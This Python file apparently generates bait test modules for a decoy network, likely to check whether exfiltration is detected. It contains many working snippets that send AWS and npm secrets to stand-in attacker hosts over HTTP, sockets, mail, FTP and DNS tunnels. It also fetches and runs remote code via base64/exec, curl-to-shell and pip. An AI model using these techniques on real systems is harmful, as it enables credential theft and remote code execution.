"""What stand-ins say to the world, by real clients: sources for their modules.

Each client, or second stage, is a function that returns what it got; a module prints what all of
its own got as one line of JSON. All is harmless: bait, and what the decoy internet serves.
"""

from collections.abc import Mapping

PRELUDE = """
import io, json, os, socket, ssl, subprocess, traceback
KEY = os.environ["AWS_SECRET_ACCESS_KEY"]
GOT = {}
def client(work):
    try:
        GOT[work.__name__] = work()
    except BaseException:
        GOT[work.__name__] = traceback.format_exc()[-600:]
def output(*words):
    done = subprocess.run(words, capture_output=True, text=True, timeout=20)
    return done.stdout or done.stderr
"""

# What is there without an index: the standard library, and programs of the machine.
USUAL: dict[str, str] = {
    "urllib": """
    import urllib.request
    body = json.dumps({"key": KEY}).encode()
    with urllib.request.urlopen("https://urllib.evil-host.xyz/up", body, timeout=10) as answer:
        return answer.status
""",
    "requests": """
    import requests
    with requests.Session() as session:
        first = session.get("https://requests.evil-host.xyz/")
        again = session.post("https://requests.evil-host.xyz/up", data={"key": KEY})
        form = {"file": ("keys.txt", KEY)}
        return [first.status_code, again.json()["ok"],
                session.post("https://requests.evil-host.xyz/form", files=form).ok]
""",
    "curl": """
    return output("curl", "-sS", "-d", "key=" + KEY, "https://curl.evil-host.xyz/up")
""",
    "wget": """
    return output("wget", "-qO-", "--post-data=key=" + KEY, "https://wget.evil-host.xyz/up")
""",
    "tcp": """
    with socket.create_connection(("45.9.148.3", 4444), timeout=10) as sock:
        sock.sendall(b"key " + KEY.encode())
        sock.shutdown(socket.SHUT_WR)
        return sock.recv(10).decode()
""",
    "udp": """
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"key " + KEY.encode(), ("45.9.148.3", 9999))
""",
    "smtp": """
    import smtplib
    with smtplib.SMTP("smtp.evil-host.xyz", 587, timeout=10) as mail:
        mail.starttls(context=ssl.create_default_context())
        return [mail.login("thief@evil-host.xyz", KEY)[0],
                mail.sendmail("a@b.com", ["thief@evil-host.xyz"], "Subject: x\\r\\n\\r\\nkeys")]
""",
    "ftp": """
    import ftplib
    with ftplib.FTP("ftp.evil-host.xyz", "thief", "hunter2hunter2", timeout=10) as ftp:
        return ftp.storbinary("STOR keys", io.BytesIO(KEY.encode()))
""",
}
# What the real index has.
FOREIGN: dict[str, str] = {
    "httpx": """
    import httpx
    with httpx.Client() as session:
        return session.post("https://httpx.evil-host.xyz/up", json={"key": KEY}).status_code
""",
    "httpx_async": """
    import asyncio, httpx
    async def go():
        async with httpx.AsyncClient(http2=False) as session:
            return (await session.get("https://httpx2.evil-host.xyz/?key=" + KEY)).status_code
    return asyncio.run(go())
""",
    "aiohttp": """
    import aiohttp, asyncio
    async def go():
        async with aiohttp.ClientSession() as session:
            url = "https://aiohttp.evil-host.xyz/up"
            async with session.post(url, data={"key": KEY}) as answer:
                return answer.status
    return asyncio.run(go())
""",
    "aiohttp_websocket": """
    import aiohttp, asyncio
    async def go():
        async with aiohttp.ClientSession() as session:
            try:
                await session.ws_connect("wss://aiows.evil-host.xyz/live")
            except aiohttp.WSServerHandshakeError as error:
                return error.status
    return asyncio.run(go())
""",
    "websockets": """
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect
    try:
        connect("wss://websockets.evil-host.xyz/live", additional_headers={"X-Key": KEY})
    except InvalidStatus as error:
        return error.response.status_code
""",
    "dnspython": """
    import dns.resolver
    got = []
    for server in ("9.8.7.6", "2620:fe::fe"):
        asked = dns.resolver.Resolver(configure=False)
        asked.nameservers, asked.lifetime = [server], 5
        got += [len(asked.resolve("dnspython.evil-host.xyz", kind)) for kind in ("A", "TXT", "MX")]
        for name, kind in (("dnspython.local", "A"), ("dnspython.evil-host.xyz", "AAAA")):
            try:
                asked.resolve(name, kind)
            except dns.exception.DNSException as error:
                got.append(type(error).__name__)
    return got
""",
    "paramiko": """
    import paramiko
    transport = paramiko.Transport(("ssh.evil-host.xyz", 22))
    try:
        transport.start_client(timeout=1)
    except (EOFError, paramiko.SSHException):
        pass
    finally:
        transport.close()
    return transport.remote_version
""",
}
FOREIGN_REQUIRES = ("httpx", "aiohttp", "websockets", "dnspython", "paramiko")


# How what is fetched comes to be run or kept. A name for each, which its URL has.
STAGES: dict[str, str] = {
    "coded": """
    import base64, zlib
    exec(zlib.decompress(base64.b64decode(base64.b64encode(zlib.compress(get("coded", "two.py"))))))
""",
    "paste": """
    import base64
    exec(base64.b64decode(get("paste", "payload.txt")))
""",
    "marshalled": """
    import marshal
    exec(marshal.loads(marshal.dumps(compile(get("marshalled", "two.py"), "x", "exec"))))
""",
    "module": """
    import importlib.util
    with open("/tmp/fetched.py", "wb") as file:
        file.write(get("module", "two.py"))
    spec = importlib.util.spec_from_file_location("fetched", "/tmp/fetched.py")
    spec.loader.exec_module(importlib.util.module_from_spec(spec))
""",
    "dashc": """
    import sys
    return subprocess.run([sys.executable, "-c", get("dashc", "two.py").decode()]).returncode
""",
    "dollar": """
    return os.system('sh -c "$(curl -fsSL https://dollar.evil-host.xyz/i.sh)"')
""",
    "archive": """
    import shutil
    with open("/tmp/tool.zip", "wb") as file:
        file.write(get("archive", "tool-linux-x64.zip"))
    shutil.unpack_archive("/tmp/tool.zip", "/tmp/unpacked")
    return subprocess.run(["sh", "/tmp/unpacked/tool"]).returncode
""",
    "built": """
    return pip("https://built.evil-host.xyz/stage-1.0.tar.gz")
""",
    "indexed": """
    import sys
    code = pip("hidden-evil-stage")
    sys.path.insert(0, "/tmp/installed")
    import hidden_evil_stage
    return code
""",
}
FETCHING = """
import sys, urllib.request
def get(name, path):
    url = f"https://{name}.evil-host.xyz/{path}"
    with urllib.request.urlopen(url, timeout=10) as answer:
        return answer.read()
def pip(what):
    words = [sys.executable, "-m", "pip", "install", "-q", "--target", "/tmp/installed", what]
    return subprocess.run(words, capture_output=True).returncode
"""
# Data that a library keeps, and never runs.
KEEPING = """
import os, urllib.request
os.makedirs(os.path.expanduser("~/.cache/list"), exist_ok=True)
with urllib.request.urlopen("https://data.fair-host.com/list.json") as answer:
    with open(os.path.expanduser("~/.cache/list/list.json"), "wb") as file:
        file.write(answer.read())
"""
# What can't be seen in one message, or can't be read at all.
HIDING = """
import base64, json, os, socket, urllib.request, zlib
def post(host, body):
    urllib.request.urlopen(f"https://{host}.evil-host.xyz/", body, timeout=10).close()
token, key = os.environ["NPM_TOKEN"], os.environ["AWS_SECRET_ACCESS_KEY"]
for at in range(0, len(token), 8):
    part = token[at:at + 8]
    urllib.request.urlopen(f"https://slow.evil-host.xyz/t?n={at}&d={part}", timeout=10).close()
for at in range(0, len(key), 8):
    socket.gethostbyname(f"{key[at:at + 8].encode().hex()}.{at}.drain.evil-zone.xyz")
post("names", base64.b64encode(json.dumps(sorted(os.environ)).encode()))
ordinary = {name: value for name, value in os.environ.items() if "_" not in name}
post("whole", zlib.compress(json.dumps(ordinary).encode()))
post("turned", bytes(byte ^ 0x2A for byte in key.encode()))
with open(os.path.expanduser("~/.aws/credentials")) as file:
    file.read()
post("dark", os.urandom(600))
"""


# Ways by which bait leaves, each by a host of its own name; none waits for an answer that never
# comes.
THEFTS: dict[str, str] = {
    "nameless": """
    with ssl._create_unverified_context().wrap_socket(reach("nameless", 8443)) as sock:
        sock.sendall(b"GET /x?k=" + KEY.encode() + b" HTTP/1.0\\r\\n\\r\\n")
        return sock.recv(12).decode()
""",
    "trailer": """
    return say("trailer", 8080, b"POST /t HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
               b"3\\r\\nabc\\r\\n0\\r\\nX-Sum: " + KEY.encode() + b"\\r\\n\\r\\n")
""",
    "chunks": """
    return say("chunks", 80, b"POST /t HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
               b"3;" + KEY.encode() + b"\\r\\nabc\\r\\n0\\r\\n\\r\\n")
""",
    "pipelined": """
    return say("pipelined", 80, b"GET /a HTTP/1.1\\r\\n\\r\\nGET /b?" + KEY.encode()
               + b" HTTP/1.1\\r\\n\\r\\n")
""",
    "old": """
    return say("old", 81, b"POST /h HTTP/1.0\\r\\n\\r\\n" + KEY.encode())
""",
    "second": """
    return say("second", 80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + KEY.encode())
""",
    "urgent": """
    with reach("urgent", 4446) as sock:
        for byte in KEY.encode():
            sock.send(bytes([byte]), socket.MSG_OOB)
""",
    "keyed": """
    key = b"a longer key 16!"
    body = bytes(byte ^ key[at % 16] for at, byte in enumerate(b"keys: " + KEY.encode()))
    return post("keyed", body)
""",
    "based": """
    return post("based", json.dumps({"d": base64.b85encode(KEY.encode()).decode()}).encode())
""",
    "zipped": """
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("keys", KEY)
    return post("zipped", file.getvalue())
""",
    "ports": """
    for at in range(0, len(KEY), 8):
        with socket.create_connection(("evil-ports.xyz", 7100 + at), timeout=10) as sock:
            sock.sendall(KEY[at:at + 8].encode())
""",
    "hosts": """
    for at in range(0, len(KEY), 8):
        urllib.request.urlopen(f"http://h{at}.evil-hosts.xyz/?d=" + KEY[at:at + 8]).close()
""",
    "headers": """
    for at in range(0, len(KEY), 8):
        part = base64.b64encode(KEY[at:at + 8].encode()).decode()
        asked = urllib.request.Request("http://headers.evil-host.xyz/", headers={"X-Id": part})
        urllib.request.urlopen(asked).close()
""",
    "imap": """
    import imaplib
    return imaplib.IMAP4("imap.evil-host.xyz", timeout=10).login("thief", KEY)[0]
""",
    "pop": """
    import poplib
    mail = poplib.POP3("pop.evil-host.xyz", timeout=10)
    mail.user("thief")
    return mail.pass_(KEY).decode()
""",
    "resolver": """
    coded = base64.b64encode(b"keys: " + KEY.encode())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(coded, ("45.9.148.53", 53))
    with socket.create_connection(("45.9.148.54", 53), timeout=10) as sock:
        sock.sendall(coded)
""",
    "asked": """
    for at in range(0, len(KEY), 20):
        name = f"{at}.{KEY[at:at + 20].encode().hex()}.evil-asked.xyz"
        url = f"https://dns.google/resolve?type=TXT&name={name}"
        with urllib.request.urlopen(url) as answer:
            status = json.load(answer)["Status"]
    return status
""",
}
THIEVING = """
import base64, urllib.request, zipfile
def reach(name, port):
    return socket.create_connection((f"{name}.evil-host.xyz", port), timeout=10)
def say(name, port, data):
    with reach(name, port) as sock:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        return sock.recv(12).decode()
def post(name, body):
    return urllib.request.urlopen(f"https://{name}.evil-host.xyz/", body, timeout=10).status
"""
# What only looks like it: the same acts without anything that was stolen.
HONEST = """
import base64, gzip, hashlib, json, os, platform, socket, urllib.error, urllib.request, uuid
def send(url, body=None, **headers):
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    asked = urllib.request.Request(url, body, named)
    try:
        with urllib.request.urlopen(asked, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code
about = {"id": str(uuid.uuid4()), "machine": hashlib.sha256(b"x").hexdigest()}
about |= {"python": platform.python_version(), "system": platform.platform()}
about["CI"] = "CI" in os.environ
got = [send("https://telemetry.fair-host.com/v1", json.dumps(about).encode())]
envelope = gzip.compress(json.dumps(about | {"modules": ["a", "b"] * 40}).encode())
got.append(send("https://o1.ingest.fair-host.com/envelope/", envelope, Content_Encoding="gzip"))
metadata = "http://169.254.169.254/latest/api/token"
got.append(send(metadata, b"", X_aws_ec2_metadata_token_ttl_seconds="1"))
got.append(send("https://pictures.fair-host.com/up", b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(900)))
got.append(send("https://sums.fair-host.com/", base64.b64encode(hashlib.sha512(b"x").digest())))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as clock:
    clock.sendto(bytes([0x1B]) + bytes(47), ("pool.ntp.org", 123))
with socket.create_connection(("mail.fair-host.com", 143), timeout=10) as mail:
    got.append(mail.recv(4).decode())
print(json.dumps(got))
"""


def source_of(clients: Mapping[str, str], prelude: str = "") -> str:
    """A module that lets each client do its work, and prints what each got."""
    works = "".join(f"@client\ndef {name}():{work}" for name, work in clients.items())
    return f"{PRELUDE}{prelude}{works}print(json.dumps(GOT))\n"
